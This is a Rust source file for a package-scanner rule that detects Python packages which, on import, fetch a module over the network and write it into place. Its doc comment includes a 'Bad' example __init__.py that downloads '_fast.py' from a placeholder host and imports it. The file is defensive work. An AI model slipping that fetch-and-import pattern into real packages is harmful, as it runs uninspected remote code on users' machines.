//! ## What it detects
//!
//! Code that runs unasked fetches a module of Python and writes it where it is imported from.
//!
//! ## Why it is bad
//!
//! What was inspected is not what runs: whoever holds the address decides, and may change his mind.
//!
//! ## Innocent lookalikes
//!
//! Generators write modules of their own making. Tools fetch scripts when somebody asks them to.
//!
//! ## Bad
//!
//! ```python x/__init__.py
//! import os, urllib.request
//! path = os.path.join(os.path.dirname(__file__), '_fast.py')
//! with open(path, 'wb') as f:
//!     f.write(urllib.request.urlopen('http://x.example.invalid/_fast.py').read())
//! from . import _fast
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! import os
//! path = os.path.join(os.path.dirname(__file__), '_parser.py')
//! with open(path, 'w') as f:
//!     f.write('TABLES = {}')
//! ```

use fondaco_python::{Api, Call, Taint};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("fetched-module"),
    title: "fetches a module and puts it in place",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::IngressTransfer),
    weight: 1.6,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls().filter(|(_, call)| call.trigger.is_some_and(Trigger::is_unasked)) {
        let saves = call.callee.ends_with(".urlretrieve");
        let writes = call.api == Some(Api::FileWrite) && call.args.first().is_some_and(|data| data.taint.has(Taint::NETWORK));
        if (saves || writes) && is_imported(call, &unit.text) {
            hits.call(unit, call, "writes a module that came over the network");
        }
    }
}

/// Whether what is written is a module by its name, which is said after the data or the address, that the same source imports.
fn is_imported(call: &Call, source: &str) -> bool {
    let imported = |text: &str| {
        let name = text.rsplit(['/', '\\']).next().and_then(|file| file.strip_suffix(".py")).unwrap_or_default();
        text.len() < 512 && name.len() > 2 && !text.contains("://") && source.contains(&format!("import {name}"))
    };
    call.args.iter().skip(1).flat_map(|path| path.texts()).any(imported)
}
